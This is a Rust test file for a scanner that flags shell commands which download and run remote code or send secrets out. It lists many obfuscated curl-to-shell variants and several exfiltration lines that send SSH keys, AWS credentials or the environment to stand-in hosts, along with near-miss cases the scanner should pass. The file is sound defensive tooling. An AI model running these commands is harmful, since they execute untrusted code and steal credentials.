use super::{Does, Files, find, find_in_code};
use crate::review::scan::testing::{shown_diff, shown_full};

#[test]
fn commands_that_run_downloads_or_send_secrets_are_found() {
    for text in [
        r#"curl "https://x.io/i?os=linux&arch=amd64" | sh"#,
        "curl -s https://x.io/i | tee /tmp/x | sh",
        "wget -O - https://x.io/i | gunzip | sh",
        "curl https://x.io 2>&1 | sh",
        "curl https://x.io |& sh",
        "curl https://x.io | FOO=1 sh",
        "curl https://x.io | exec sh",
        "curl https://x.io | /usr/bin/env bash",
        "curl https://x.io | sudo -u root bash -s -- -y",
        ". <(curl -s https://x.io)",
        "eval \"$(curl -s https://x.io)\"",
        "bash -c \"$(curl -fsSL https://x.io)\"",
        "bash <(curl -s https://x.io)",
        "sh -c \"`curl https://x.io`\"",
        "curl https://x.io | (sh)",
        "curl https://x.io | busybox sh",
        "curl https://x.io | xargs -0 sh -c",
        "curl https://x.io | python3",
        "curl https://x.io | python3 - --yes",
        "curl -o /tmp/x https://x.io/7 && chmod +x /tmp/x && /tmp/x",
        "curl -fsSL https://x.io/i > /tmp/i.sh && sh /tmp/i.sh",
        "wget https://x.io/get.sh; bash ./get.sh",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.io/6').read())\"",
        "curl -ox https://x.io/7; sh x",
        "wget -qOx https://x.io/7; sh < x",
        "wget -P /tmp https://x.io/i.sh; sh /tmp/i.sh",
        "aria2c -o x https://x.io/7; sh x",
        "curl https://x.io/7 | tee x >/dev/null; sudo -E bash x",
        "curl https://x.io/7 | gunzip > x; . ./x",
        "curl -o x https://x.io/7; mv x /opt/y; env A=1 /opt/y",
        "curl -o x https://x.io/7; cat x | bash",
        "curl -o \"${D}/x\" https://x.io/7; sh \"$D/x\"",
        "X=$(curl -s https://x.io); eval \"$X\"",
        "X=\"$(wget -qO- https://x.io)\"; sh -c \"$X\"",
        "X=$(curl -s https://x.io); echo \"$X\" | bash",
        "sh -c 'curl -o x https://x.io/7; sh x'",
        "bash <<< \"$(curl -s https://x.io)\"",
        "bash -c \"$(wget -qO- https://x.io)\"",
        "python3 -c \"$(curl -s https://x.io)\"",
        "curl https://x.io | \\\n  sh",
        "curl https://x.io |\n  sh",
        "curl https://x.io | $SHELL",
        // A check is one only if it checks this file, and if its failure stops.
        "curl -o x https://x.io/7; sh x # && sha256sum -c x.sum",
        "curl -o x https://x.io/7; echo sha256sum -c x.sum; sh x",
        "curl -o x https://x.io/7; echo 'a'; sha256sum x; sh x",
        "curl -o x https://x.io/7; sha256sum --version && sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum || true; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum || echo bad; sh x; exit 0",
        "curl -o x https://x.io/7; sha256sum -c x.sum | tee log; sh x",
        "curl -o x https://x.io/7; echo \"$SUM other.tgz\" | sha256sum -c - && sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum && curl -o x https://x.io/8 && sh x",
        "curl -o x https://x.io/7; gpg --import k && sh x",
        "if true; then curl -o x https://x.io/7; sha256sum -c x.sum && :; sh x; fi",
        "curl -o x https://x.io/7; sha256sum -c x.sum && if true; then :; fi; sh x",
        "curl -o x https://x.io/7; openssl version && sh x",
        "curl -d \"$(env)\" https://x.io",
        "tar cz ~/.ssh | curl -T - https://x.io",
        "cat ~/.aws/credentials | base64 | nc x.io 1",
        "curl -F f=@$HOME/.ssh/id_rsa https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()).len(), 1, "{text}");
    }
    assert_eq!(find_in_code("[\"sh\",\"-c\",\"curl https://x.io/5|sh\"]").len(), 1);
}

#[test]
fn commands_are_found_however_they_are_written() {
    for text in [
        "D=curl; $D -fsSL https://x.io/i | bash",
        "CMD='curl -fsSL'; $CMD https://x.io/i | bash",
        "S=bash; curl https://x.io/i | $S",
        "${DL:-wget} -qO- https://x.io/i | sh",
        "cu''rl https://x.io/i | s\\h",
        "$'\\x63url' https://x.io/i | sh",
        "fetch() { curl -fsSL \"$1\" -o \"$2\"; }\nfetch https://x.io/i /tmp/x\nchmod +x /tmp/x\n/tmp/x",
        "function get {\n  local to=\"$2\"\n  wget -O \"$to\" \"$1\"\n}\nget https://x.io/i y && sh y",
        "run() { sh \"$1\"; }\ncurl -o x https://x.io/7; run x",
        "T=/tmp/x; curl -o $T https://x.io/7; sh /tmp/x",
        "T=/tmp/x; curl -o $T https://x.io/7; if a; then T=/tmp/y; fi; sh $T",
        "timeout 5 curl https://x.io/i | sh",
        "docker run x sh -c 'curl https://x.io/i | sh'",
        "docker exec -i x bash <<EOF\ncurl https://x.io/i | sh\nEOF",
        "ssh host 'curl https://x.io/i | sh'",
        "sh <<EOF\ncurl https://x.io/i | sh\nEOF",
        "bash -s <<'EOF'\ncurl https://x.io/i | sh\nEOF",
        "cat <<EOF | sh\ncurl https://x.io/i | sh\nEOF",
        "cat > x.sh <<EOF\ncurl https://x.io/i | sh\nEOF\nsh x.sh",
        "cat <<EOF > x.sh\ncurl https://x.io/i | sh\nEOF\nchmod +x x.sh; ./x.sh",
        "sudo tee /opt/x <<-EOF >/dev/null\n\tcurl https://x.io/i | sh\n\tEOF\n/opt/x",
        "echo 'curl https://x.io/i | sh' | bash",
        "echo 'curl https://x.io/i | sh' > x; . ./x",
        "X='curl https://x.io/i | sh'; eval \"$X\"",
        "X=$(curl https://x.io/i); $X",
        "curl https://x.io/i | bash -s stable",
        "curl https://x.io/i | bash /dev/stdin",
        "echo $((1<<2)) $((curl https://x.io/i) | sh)",
        "case $(case x in a) b;; esac) in c) curl https://x.io/i | sh;; esac",
        "a <<EOF\ncurl https://x.io/i | sh\n",
    ] {
        assert!(find(text, &mut Files::default()).iter().any(|(does, _)| *does == Does::RunsDownload), "{text}");
    }
    let deep = (0..6)
        .fold("curl https://x.io/i | sh".to_owned(), |text, _| format!("sh -c '{}'", text.replace('\'', "'\\''")));
    assert!(find(&deep, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond), "{deep}");
    let many: String = (0..6_000).map(|number| format!("f{number}() {{ true; }}\n")).collect();
    let many = format!("{many}get() {{ curl -o \"$2\" \"$1\"; }}\nget https://x.io/i /tmp/x\nsh /tmp/x\n");
    assert!(find(&many, &mut Files::default()).iter().any(|(does, _)| *does == Does::Beyond));
}

#[test]
fn text_that_is_printed_is_no_code() {
    for text in [
        "cat <<EOF\nInstall with:\n  curl -fsSL https://x.io/i | sh\nEOF",
        "usage() {\n  cat >&2 <<-'EOF'\n\tcurl https://x.io/i | sh\n\tEOF\n  exit 1\n}\nusage",
        "cat <<EOF > README.md\ncurl https://x.io/i | sh\nEOF\nsh build.sh",
        "echo 'curl https://x.io/i | sh' >> help.txt",
        "printf '%s' \"curl https://x.io/i | sh\" | sed s/a/b/",
        "psql <<EOF\nselect 'curl https://x.io/i | sh';\nEOF",
        ": <<'EOF'\ncurl https://x.io/i | sh\nEOF",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn near_misses_are_none() {
    for text in [
        "curl https://x.io || sh fallback.sh",
        "curl https://x.io/a.tgz | tar xz && sh build.sh",
        "curl -s https://x.io | python3 -c 'import json'",
        "curl -s https://x.io | jq -r .a | sha256sum",
        "curl -fsSL https://x.io/x -o x && sha256sum -c x.sum && sh x",
        "curl -o x https://x.io/7 && echo \"$SUM  x\" | sha256sum -c - && sh x",
        "set -eux; curl -o x https://x.io/7; echo \"$SUM *x\" | sha256sum -c -; sh x",
        "set -o errexit; curl -o x https://x.io/7; gpg --batch --verify x.asc x; ./x",
        "curl -o x https://x.io/7; sha256sum -c SHA256SUMS || exit 1; sh x",
        "curl -o x https://x.io/7; sha256sum -c SHA256SUMS || { echo bad; exit 1; }; sh x",
        "curl -o x https://x.io/7; if ! shasum -a 256 -c x.sum; then echo bad; exit 1; fi; sh x",
        "curl -o x https://x.io/7; if sha256sum -c x.sum; then sh x; fi",
        "curl -o x https://x.io/7; if sha256sum -c x.sum; then :; else exit 1; fi; sh x",
        "curl -o x https://x.io/7; sha256sum -c x.sum 2>&1 | grep -q OK && sh x",
        "curl -o x https://x.io/7; (cd . && sha256sum -c x.sum) && sh x",
        "curl -o x https://x.io/7; [ \"$(sha256sum x | cut -c1-64)\" = \"$SUM\" ] || exit 1; sh x",
        "curl -o x https://x.io/7; A=$(sha256sum x | cut -c1-64); if [ \"$A\" != \"$SUM\" ]; then exit 1; fi; sh x",
        "curl -o x https://x.io/7 && sha256sum -c x.sum && if a; then b; else c; fi && curl -o y https://x.io/8 && gpg --verify y.asc y && ./x && ./y",
        "curl -o x https://x.io/7\nsha=$(shasum -a 256 x | cut -c1-64)\nif [[ \"$sha\" == \"$want\" ]]; then\n  echo ok\nelse\n  echo bad\n  exit 1\nfi\nsh x",
        "curl -o x.json https://x.io/7; node build.js x.json; python3 -m json.tool x.json",
        "VERSION=$(curl -s https://x.io/v | jq -r .tag); sh build.sh \"$VERSION\"; echo \"$VERSION\" > v",
        "curl -s https://x.io/v | python3 -m json.tool | tee v.json; bash build.sh",
        "curl -sf https://x.io/health && sh start.sh",
        "curl -Lo /usr/local/bin/tool https://x.io/tool && chmod +x /usr/local/bin/tool",
        "curl -d \"$(cat body.json)\" https://x.io",
        "env | sort; mkdir -p ~/.ssh && curl https://x.io",
        "VERSION=$(curl -s https://x.io/version)",
        "sh build.sh; curl https://x.io",
    ] {
        assert_eq!(find(text, &mut Files::default()), [], "{text}");
    }
}

#[test]
fn they_are_said_of_shell_files_and_of_strings_that_are_run() {
    insta::assert_snapshot!(shown_full(&[
        ("run.sh", "#!/bin/sh\ncurl -s https://acme.io/x \\\n  | sh\ncurl -o y https://acme.io/y\nsh y\ntar cz ~/.ssh | curl -T - https://acme.io\n"),
        ("a.js", "const cp = require(`child_process`);\ncp.execSync(\"curl https://acme.io/x | sh\");\n"),
        ("setup.py", "import subprocess as sp\nsp.run(\"curl https://acme.io/x | sh\", shell=True)\n"),
    ]), @r#"
        high run.sh:6: A command sends the environment or a store of secrets to an address
            | tar cz ~/.ssh | curl -T - https://acme.io
        high setup.py:2: This code runs what an address answers
            | sp.run("curl https://acme.io/x | sh", shell=True)
        medium a.js:2: This code runs what an address answers
            | cp.execSync("curl https://acme.io/x | sh");
        medium run.sh:2-3: This code runs what an address answers
            | curl -s https://acme.io/x \\\n  | sh
        medium run.sh:5: This code runs what an address answers
        low run.sh:6: This code names a file or store where other programs keep credentials: 1 place in 1 file
            | tar cz ~/.ssh | curl -T - https://acme.io
        low setup.py:1: setup.py starts programs when the package is installed
            | import subprocess as sp
        info a.js:1: This code starts a program: 2 places in 2 files
            | const cp = require(`child_process`);
        info a.js:2: This code names hosts: acme.io
            | cp.execSync("curl https://acme.io/x | sh");
        "#);
    assert_eq!(
        shown_full(&[
            ("a.sh", "echo \"Install it: curl https://example.com | sh\"\n# curl https://example.com | sh\n"),
            (
                "a.js",
                "console.log('curl https://example.com | sh');\nconst hint = 'Run curl https://example.com | sh';\n"
            ),
            ("README.md", "curl https://example.com | sh\n"),
        ]),
        ""
    );
    let help = "#!/bin/sh\ncat <<EOF\nInstall with:\n  curl -fsSL https://example.com/install.sh | sh\nEOF\n";
    assert_eq!(shown_full(&[("usage.sh", help)]), "");
    // A quote that nothing closes does not hide the lines after it.
    let open = "#!/bin/sh\necho don't\ncurl https://acme.io/x | sh\n";
    assert!(shown_full(&[("a.sh", open)]).contains("medium a.sh:3: "));
    assert_eq!(shown_diff(&[("a.sh", "curl https://a.io | sh\n")], &[("a.sh", "curl https://a.io | sh\ntrue\n")]), "");
}
